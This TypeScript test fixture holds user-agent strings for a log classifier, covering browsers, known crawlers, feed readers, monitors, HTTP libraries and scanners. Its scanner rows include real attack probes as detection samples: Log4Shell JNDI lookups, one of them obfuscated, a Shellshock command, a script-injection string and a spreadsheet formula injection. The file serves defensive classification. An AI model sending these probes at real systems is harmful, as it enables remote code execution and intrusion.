/**
 * Agents and who they are, for the tests of the classifier: nobody, people's programs, and robots that are listed in
 * crawler-user-agents, that have a row in programs.ts (each row has a case), or that are in neither.
 */
import type { AgentClass } from "@logmill/core/plugin"

export const nobody: ReadonlyArray<string> = [
  "",
  "-",
  "--",
  " ",
  '""',
  "'",
  "\\x1b]0;owned\\x07\\x1b[2J",
  "&as_qdr=all",
  "tcp://192.0.2.1:8080",
  "Schmozilla/v9.14 Platinum"
]

const chrome = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0"
const phone = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
const android = "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv)"

export const people: ReadonlyArray<readonly [what: string, agent: string]> = [
  ["Chrome on Windows", `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome} Safari/537.36`],
  ["Chrome on macOS", `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${chrome} Safari/537.36`],
  ["Chrome on Linux", `Mozilla/5.0 (X11; Linux x86_64) ${chrome} Safari/537.36`],
  ["Chrome on ChromeOS", `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${chrome} Safari/537.36`],
  ["Chrome on Android", `Mozilla/5.0 (Linux; Android 10; K) ${chrome} Mobile Safari/537.36`],
  ["Chrome on iPhone", `${phone} CriOS/156.0.7812.40 Mobile/15E148 Safari/604.1`],
  ["Chromium on Ubuntu", `Mozilla/5.0 (X11; Linux x86_64) ${chrome} Ubuntu Chromium/156.0.0.0 Safari/537.36`],
  ["Edge", `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome} Safari/537.36 Edg/156.0.0.0`],
  ["Edge on Android", `Mozilla/5.0 (Linux; Android 10; K) ${chrome} Mobile Safari/537.36 EdgA/156.0.0.0`],
  ["Edge on iPhone", `${phone} Version/18.0 EdgiOS/156.0.0.0 Mobile/15E148 Safari/605.1.15`],
  ["Opera", `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome} Safari/537.36 OPR/132.0.0.0`],
  ["Vivaldi", `Mozilla/5.0 (X11; Linux x86_64) ${chrome} Safari/537.36 Vivaldi/7.6.3797.52`],
  ["Yandex Browser", `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome} YaBrowser/26.8.0.0 Safari/537.36`],
  ["Samsung Internet", `Mozilla/5.0 (Linux; Android 10; K) ${chrome} SamsungBrowser/30.0 Mobile Safari/537.36`],
  [
    "Huawei Browser",
    `Mozilla/5.0 (Linux; Android 12; ELS-NX9) ${chrome} HuaweiBrowser/16.0.3.300 Mobile Safari/537.36`
  ],
  ["Mi Browser", `Mozilla/5.0 (Linux; U; Android 15; en-gb) ${chrome} Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.30.1`],
  ["UC Browser", `Mozilla/5.0 (Linux; U; Android 13; en-US) ${chrome} UCBrowser/13.8.0.1324 Mobile Safari/537.36`],
  ["a phone called Cubot", `Mozilla/5.0 (Linux; Android 9; CUBOT X19) ${chrome} Mobile Safari/537.36`],
  [
    "Safari on macOS",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.0 Safari/605.1.15"
  ],
  ["Safari on iPhone", `${phone} Version/27.0 Mobile/15E148 Safari/604.1`],
  [
    "Safari on iPad",
    "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.0 Mobile/15E148 Safari/604.1"
  ],
  ["Safari fetching an icon", "MobileSafari/9537.53 CFNetwork/672.0.8 Darwin/14.0.0"],
  ["DuckDuckGo on iPhone", `${phone} Version/18.7 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15`],
  ["Google app on iPhone", `${phone} GSA/390.0.812345678 Mobile/15E148 Safari/604.1`],
  ["Firefox on Windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:156.0) Gecko/20100101 Firefox/156.0"],
  ["Firefox on Linux", "Mozilla/5.0 (X11; Linux x86_64; rv:156.0) Gecko/20100101 Firefox/156.0"],
  ["Firefox on Android", "Mozilla/5.0 (Android 15; Mobile; rv:156.0) Gecko/156.0 Firefox/156.0"],
  ["Firefox on iPhone", `${phone} FxiOS/156.0 Mobile/15E148 Safari/604.1`],
  ["SeaMonkey", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 SeaMonkey/2.53.22"],
  ["Internet Explorer 11", "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"],
  ["Internet Explorer 6", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)"],
  ["Opera of old", "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18"],
  ["Instagram's browser", `${phone} Mobile/22H31 Instagram 402.0.0.28.77 (iPhone15,4; iOS 18_7; en_GB)`],
  ["Facebook's browser", `${phone} Mobile/22H31 [FBAN/FBIOS;FBAV/530.0.0.40.75;FBDV/iPhone15,4;FBSV/18.7]`],
  ["Facebook's browser on Android", `${android} ${chrome} Mobile Safari/537.36 MetaIAB Facebook extra`],
  [
    "an ordinary Android build",
    `Mozilla/5.0 (Linux; Android 15; CPH2581 Build/AP3A.240617.008; wv) ${chrome} Mobile Safari/537.36`
  ],
  ["WeChat's browser", `${phone} Mobile/15E148 MicroMessenger/8.0.62(0x18003e2e) NetType/WIFI Language/en`],
  [
    "a television",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36"
  ],
  [
    "a PlayStation",
    "Mozilla/5.0 (PlayStation; PlayStation 5/10.01) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15"
  ],
  ["an old phone", "Nokia6820/2.0 (4.83) Profile/MIDP-1.0 Configuration/CLDC-1.0"],
  ["Lynx", "Lynx/2.9.2 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.8.6"],
  ["Links", "Links (2.30; Linux 6.12 x86_64; GNU C 14.2; text)"],
  ["ELinks", "ELinks/0.18 (textmode; Linux; 80x24)"],
  ["w3m", "w3m/0.5.3+git20230121"],
  ["Dillo", "Dillo/3.2.0"],
  ["NetSurf", "NetSurf/3.11 (Linux)"]
]

type Robot = readonly [agent: string, agentClass: AgentClass, bot: string | null]

export const listedRobots: ReadonlyArray<Robot> = [
  ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "search", "Googlebot"],
  [
    `Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) ${chrome} Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`,
    "search",
    "Googlebot"
  ],
  ["Googlebot-Image/1.0", "search", "Googlebot-Image"],
  [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
    "search",
    "bingbot"
  ],
  ["DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "search", "DuckDuckBot"],
  [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "search",
    "Applebot"
  ],
  ["Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "search", "YandexBot"],
  ["Mozilla/5.0 (compatible; YandexBot/3.0; MirrorDetector; +http://yandex.com/bots)", "search", "YandexBot"],
  [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "ai-crawler",
    "GPTBot"
  ],
  [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
    "ai-crawler",
    "OAI-SearchBot"
  ],
  [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "ai-crawler",
    "ClaudeBot"
  ],
  [
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    "ai-crawler",
    "Bytespider"
  ],
  [
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "ai-crawler",
    "meta-externalagent"
  ],
  ["Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor", "UptimeRobot"],
  ["Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor", "Pingdom"],
  ["Feedly/1.0 (+http://www.feedly.com/fetcher.html; 41 subscribers)", "feed", "Feedly"],
  ["Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 12 subscribers; )", "feed", "Inoreader"],
  ["Tiny Tiny RSS/25.10 (https://tt-rss.org/)", "feed", "Tiny Tiny RSS"],
  ["Mozilla/5.0 zgrab/0.x", "scanner", "zgrab"],
  ["Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "scanner", "Nikto"],
  ["python-requests/2.32.5", "library", "python-requests"],
  ["curl/8.14.1", "library", "curl"],
  ["Wget/1.25.0", "library", "Wget"],
  ["Go-http-client/1.1", "library", "Go-http-client"],
  ["okhttp/5.1.0", "library", "okhttp"],
  ["axios/1.12.2", "library", "axios"],
  ["Python/3.14 aiohttp/3.13.1", "library", "aiohttp"],
  [
    `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36`,
    "library",
    "HeadlessChrome"
  ],
  ["W3C-checklink/4.5 [4.160] libwww-perl/5.823", "monitor", "W3C-checklink"],
  ["AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "library", "AppEngine-Google"],
  ["Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "other-bot", "AhrefsBot"],
  ["Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "other-bot", "SemrushBot"],
  ["facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "other-bot", "facebookexternalhit"],
  ["Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "other-bot", "Slackbot-LinkExpanding"],
  ["Mastodon/4.4.2 (http.rb/5.3.1; +https://social.example.org/)", "other-bot", "Mastodon"],
  ["Mozilla/5.0 (compatible; um-LN/1.0; mailto: techinfo@example.com)", "other-bot", "um-LN"],
  [
    "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)",
    "scanner",
    "Let's Encrypt"
  ],
  [
    "Mozilla/5.0 (X11; Linux x86_64) Chrome/77.0.3865.120 Safari/537.36 https://linko.app/crawler",
    "monitor",
    "linko.app"
  ]
]

/** At least one for each row of programs.ts; a test sees to it. */
export const ownRobots: ReadonlyArray<Robot> = [
  ["gobuster/3.8.2", "scanner", "gobuster"],
  ["feroxbuster/2.11.0", "scanner", "feroxbuster"],
  ["Fuzz Faster U Fool v2.1.0-dev", "scanner", "ffuf"],
  ["Wfuzz/3.1.0", "scanner", "Wfuzz"],
  ["Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner", "Nuclei"],
  ["httpx - Open-source project (github.com/projectdiscovery/httpx)", "scanner", "httpx"],
  ["Mozilla/5.0 (Arachni/v1.6.1)", "scanner", "Arachni"],
  ["w3af.org", "scanner", "w3af"],
  ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Netsparker", "scanner", "Netsparker"],
  ["Morfeus Fucking Scanner", "scanner", "Morfeus"],
  ["Mozilla/5.0 Jorgee", "scanner", "Jorgee"],
  ["Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) Havij", "scanner", "Havij"],
  ["sqlninja", "scanner", "sqlninja"],
  ["commix/v4.0-stable (https://commixproject.com)", "scanner", "commix"],
  ["Mozilla/4.0 (Hydra)", "scanner", "Hydra"],
  ["Teh Forest Lobster", "scanner", "Medusa"],
  ["Hello, World", "scanner", "Hello World"],
  ["KrebsOnSecurity", "scanner", "KrebsOnSecurity"],
  ["libredtail-http", "scanner", "libredtail-http"],
  ["Expanse, a Palo Alto Networks company, searches across the global IPv4 space", "scanner", "Palo Alto Networks"],
  [
    "Hello from us, read https://docs-cortex.paloaltonetworks.com/r/1/Cortex-Xpanse/Scanning-activity",
    "scanner",
    "Palo Alto Networks"
  ],
  ["${jndi:ldap://198.51.100.9:1389/a}", "scanner", "Log4Shell probe"],
  ["${${::-j}${::-n}di:ldap://198.51.100.9/a}", "scanner", "Log4Shell probe"],
  ["Mozilla/5.0 ${jndi:dns://198.51.100.9/a}", "scanner", "Log4Shell probe"],
  ["() { :; }; /bin/bash -c id", "scanner", "Shellshock probe"],
  ["<script>alert(1)</script>", "scanner", "script injection"],
  ["=cmd|' /C calc'!A0", "scanner", "formula injection"],
  ["NetNewsWire (RSS Reader; https://netnewswire.com/)", "feed", "NetNewsWire"],
  ["Liferea/1.16.3 (Linux; https://lzone.de/liferea/) AppleWebKit (KHTML, like Gecko)", "feed", "Liferea"],
  ["Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Thunderbird/153.2.0", "feed", "Thunderbird"],
  ["akregator/6.2.3; syndication", "feed", "akregator"],
  ["newsboat/2.39.0 (Linux x86_64)", "feed", "newsboat"],
  ["newsbeuter/2.9 (Linux x86_64)", "feed", "newsbeuter"],
  ["RSS Guard/4.8.4 (github.com/martinrotter/rssguard)", "feed", "RSS Guard"],
  [
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/538.1 (KHTML, like Gecko) QuiteRSS/0.19.4 Safari/538.1",
    "feed",
    "QuiteRSS"
  ],
  ["RSSOwl/2.2.1.201312301314 (Windows; U; en)", "feed", "RSSOwl"],
  ["FeedDemon/4.5 (http://www.feeddemon.com/; Microsoft Windows)", "feed", "FeedDemon"],
  ["Vienna/8464", "feed", "Vienna"],
  ["ReadKit/7039 CFNetwork/1492.0.1 Darwin/23.3.0", "feed", "ReadKit"],
  ["Reeder/5.4 CFNetwork/1492.0.1 Darwin/23.3.0", "feed", "Reeder"],
  ["Unread RSS Reader - https://www.goldenhillsoftware.com/unread/", "feed", "Unread"],
  ["SpaceCowboys Android RSS Reader / 2.6.4(312)", "feed", "Feeder"],
  ["Emacs Elfeed 3.4.2", "feed", "Elfeed"],
  ["Selfoss/2.19 (+https://selfoss.aditu.de)", "feed", "Selfoss"],
  ["Nextcloud-News/1.0", "feed", "Nextcloud-News"],
  ["Yarr/1.0", "feed", "Yarr"],
  ["UniversalFeedParser/5.2.1 +https://code.google.com/p/feedparser/", "feed", "UniversalFeedParser"],
  ["feedparser/6.0.11 +https://github.com/kurtmckee/feedparser/", "feed", "feedparser"],
  ["Gofeed/1.0", "feed", "Gofeed"],
  ["AntennaPod/3.7.1", "feed", "AntennaPod"],
  ["Podcast Addict/v5 (+https://podcastaddict.com/; Android podcast app)", "feed", "Podcast Addict"],
  ["gPodder/3.11.4 (http://gpodder.org/) Linux", "feed", "gPodder"],
  ["Podcasts/1650.1 CFNetwork/1492.0.1 Darwin/23.3.0", "feed", "Apple Podcasts"],
  ["kube-probe/1.33", "monitor", "kube-probe"],
  ["ELB-HealthChecker/2.0", "monitor", "ELB-HealthChecker"],
  ["Amazon-Route53-Health-Check-Service (ref 1234; report http://amzn.to/1vsZADi)", "monitor", "Route 53 Health Check"],
  ["GoogleHC/1.0", "monitor", "GoogleHC"],
  ["Consul Health Check", "monitor", "Consul Health Check"],
  ["Prometheus/3.5.0", "monitor", "Prometheus"],
  ["Gatus/1.0", "monitor", "Gatus"],
  ["Monit/5.35.2", "monitor", "Monit"],
  ["nagios-plugins/2.4", "monitor", "nagios-plugins"],
  ["Icinga/2.15", "monitor", "Icinga"],
  ["checkmk-active-httpv2/2.4", "monitor", "checkmk-active-httpv2"],
  ["Apache/2.4.66 (Debian) (internal dummy connection)", "other-bot", "Apache"],
  ["Curl/7.1", "library", "curl"],
  ["git/2.51.0 libcurl/8.14.1", "library", "libcurl"],
  ["PycURL/7.45.6", "library", "PycURL"],
  ["Java/21.0.8", "library", "Java"],
  ["Java-http-client/21.0.8", "library", "Java-http-client"],
  ["Shop Apache-HttpClient/4.5.14 (Java/21.0.8)", "library", "Apache-HttpClient"],
  ["Apache-HttpAsyncClient/5.5", "library", "Apache-HttpAsyncClient"],
  ["Jakarta Commons-HttpClient/3.1", "library", "Commons-HttpClient"],
  ["ReactorNetty/1.2.9", "library", "ReactorNetty"],
  ["Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", "library", "Dalvik"],
  ["Example/123 CFNetwork/1492.0.1 Darwin/23.3.0", "library", "CFNetwork"],
  ["Python-httplib2/0.22.0 (gzip)", "library", "Python-httplib2"],
  ["Python/3.14", "library", "Python"],
  ["urllib3/2.5.0", "library", "urllib3"],
  ["Ruby", "library", "Ruby"],
  ["Faraday v2.13.4", "library", "Faraday"],
  ["rest-client/2.1.0 (linux x86_64) ruby/3.4.5", "library", "rest-client"],
  ["http.rb/5.3.1", "library", "http.rb"],
  ["Typhoeus - https://github.com/typhoeus/typhoeus", "library", "Typhoeus"],
  ["GuzzleHttp/7", "library", "GuzzleHttp"],
  ["PHP/8.4.12", "library", "PHP"],
  ["Symfony HttpClient (Curl)", "library", "Symfony HttpClient"],
  ["LWP::Simple/6.79", "library", "libwww-perl"],
  ["HTTP-Tiny/0.090", "library", "HTTP-Tiny"],
  ["Mojolicious (Perl)", "library", "Mojolicious"],
  ["fasthttp", "library", "fasthttp"],
  ["go-resty/2.16.5 (https://github.com/go-resty/resty)", "library", "go-resty"],
  ["reqwest/0.12.23", "library", "reqwest"],
  ["ureq/3.1.0", "library", "ureq"],
  ["node", "library", "Node.js"],
  ["undici", "library", "undici"],
  ["node-superagent/10.2.3", "library", "node-superagent"],
  ["Deno/2.5.0", "library", "Deno"],
  ["Bun/1.2.22", "library", "Bun"],
  ["Dart/3.9 (dart:io)", "library", "Dart"],
  ["RestSharp/112.1.0.0", "library", "RestSharp"],
  ["Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.26100.1", "library", "PowerShell"],
  ["Mozilla/5.0 (Linux; Ubuntu 24.04; en-US) PowerShell/7.5.3", "library", "PowerShell"],
  ["Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)", "library", "WinHttp"],
  ["Microsoft-CryptoAPI/10.0", "library", "Microsoft-CryptoAPI"],
  ["PostmanRuntime/7.46.1", "library", "PostmanRuntime"],
  ["insomnia/11.6.0", "library", "insomnia"],
  ["xh/0.25.0", "library", "xh"],
  ["aria2/1.37.0", "library", "aria2"],
  ["Axel/2.17.14", "library", "Axel"],
  ["git/2.51.0", "library", "git"],
  ["ApacheBench/2.3", "library", "ApacheBench"],
  ["k6/1.3.0 (https://k6.io/)", "library", "k6"],
  ["hey/0.0.1", "library", "hey"],
  ["Mozilla/5.0 (pc-x86_64-linux-gnu) JoeDog/1.00 [en] (X11; I; Siege 4.1.7)", "library", "siege"]
]

/** In neither table. */
export const strangers: ReadonlyArray<Robot> = [
  ["Mozilla/5.0", "other-bot", null],
  ["Mozilla/4.0 (compatible;)", "other-bot", null],
  ["203.0.113.28", "other-bot", null],
  ["ExampleBot/1.0", "other-bot", "ExampleBot"],
  ["Mozilla/5.0 (compatible; ExampleBot; +https://www.example.com/bot)", "other-bot", "ExampleBot"],
  [
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome} Safari/537.36 (compatible; Example-Crawler/2.1; +https://example.com/)`,
    "other-bot",
    "Example-Crawler"
  ],
  ["Mozilla/5.0 (compatible; en-US; Gathering/1.0; +https://example.com/gathering)", "other-bot", "Gathering"],
  [
    "Digg Feed Fetcher 1.0 (Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_1) Version/5.1 Safari/534.48.3)",
    "other-bot",
    "Digg Feed Fetcher"
  ],
  [
    `Mozilla/5.0 (X11; Linux x86_64) ${chrome} Safari/537.36 (+https://www.example.org/about)`,
    "other-bot",
    "example.org"
  ],
  ["https://www.example.net/", "other-bot", "example.net"],
  ["my little script", "other-bot", "my little script"]
]
